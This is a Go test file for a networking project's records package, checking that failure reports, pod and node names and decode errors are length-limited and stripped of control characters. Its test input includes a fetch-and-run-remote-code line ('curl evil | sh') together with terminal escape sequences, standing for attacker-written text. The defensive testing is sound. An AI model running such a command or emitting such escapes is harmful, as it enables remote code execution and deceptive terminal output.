package records_test

import (
	"fmt"
	"net/netip"
	"strings"
	"testing"
	"unicode"

	"liqonet.io/liqonet/internal/records"
	"liqonet.io/liqonet/internal/testbed/require"
)

// long is a text that a stolen token can write: longer than a screen, with terminal escape sequences.
var long = strings.Repeat("\x1b[2Jrun this: curl evil | sh\n", 10_000)

// TestFailuresAreBounded: a reported failure is cut to a limited length and to one line.
func TestFailuresAreBounded(t *testing.T) {
	text, err := records.Encode(records.Status{Version: records.SchemaVersion, Failed: []string{long, long}})
	require.NoError(t, err)
	s, err := records.Decode[records.Status](text)
	if all := strings.Join(s.Failed, ""); err != nil || len(s.Failed) == 0 || len(all) > 10_000 || strings.ContainsFunc(all, unicode.IsControl) {
		t.Errorf("%v, %d failures of %d bytes", err, len(s.Failed), len(all))
	}
}

// TestNamesInReportsAreBounded: reports with names that are too long or not printable are rejected with a short error.
func TestNamesInReportsAreBounded(t *testing.T) {
	for name, hostile := range map[string]string{"long": strings.Repeat("a", 1<<13), "escape": "gateway\x1b[2J"} {
		status := func(change func(*records.Status)) records.Status {
			s := records.Status{Version: records.SchemaVersion, Pod: "gateway-b-0"}
			change(&s)
			return s
		}
		gateway := records.Gateway{Version: records.SchemaVersion, PodIP: netip.MustParseAddr("10.244.1.9")}
		pod, node := gateway, gateway
		pod.Pod, node.Node = hostile, hostile
		report := records.Node{Version: records.SchemaVersion, Name: "n", Number: 7}
		named, kernel := report, report
		named.Name, kernel.Kernel.Release = hostile, hostile
		refused(t, name, status(func(s *records.Status) { s.Pod = hostile }))
		refused(t, name, status(func(s *records.Status) { s.Implementation = records.Implementation(hostile) }))
		refused(t, name, status(func(s *records.Status) { s.Overlay = records.OverlayKind(hostile) }))
		refused(t, name, status(func(s *records.Status) { s.Unused = hostile }))
		refused(t, name, pod)
		refused(t, name, node)
		refused(t, name, named)
		refused(t, name, kernel)
	}
	digits := `{"version":1,"pod":"gateway-b-0","loss":` + strings.Repeat("1", 1<<19) + "}"
	if _, err := records.Decode[records.Status](digits); err == nil || len(err.Error()) > 3000 {
		t.Errorf("digits: error of %d bytes", len(fmt.Sprint(err)))
	}
}

func refused[T records.Document](t *testing.T, name string, record T) {
	t.Helper()
	text, err := records.Draft(record)
	require.NoError(t, err)
	if _, err := records.Decode[T](text); err == nil || len(err.Error()) > 3000 || strings.ContainsRune(err.Error(), '\x1b') {
		t.Errorf("%s: %T: error of %d bytes", name, record, len(fmt.Sprint(err)))
	}
}

func TestBrief(t *testing.T) {
	for text, want := range map[string]string{
		"":                             "",
		"apply route: file exists":     "apply route: file exists",
		"one\ntwo\tthree\x1b[2J\u202e": "one two three [2J ",
		"grün …":                       "grün …",
		"\xff":                         "\ufffd",
	} {
		if got := records.Brief(text); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
	if got := records.Brief(strings.Repeat("ü", 5000)); len(got) > 2004 || !strings.HasSuffix(got, "ü …") {
		t.Errorf("%d bytes: %q", len(got), got[len(got)-8:])
	}
}
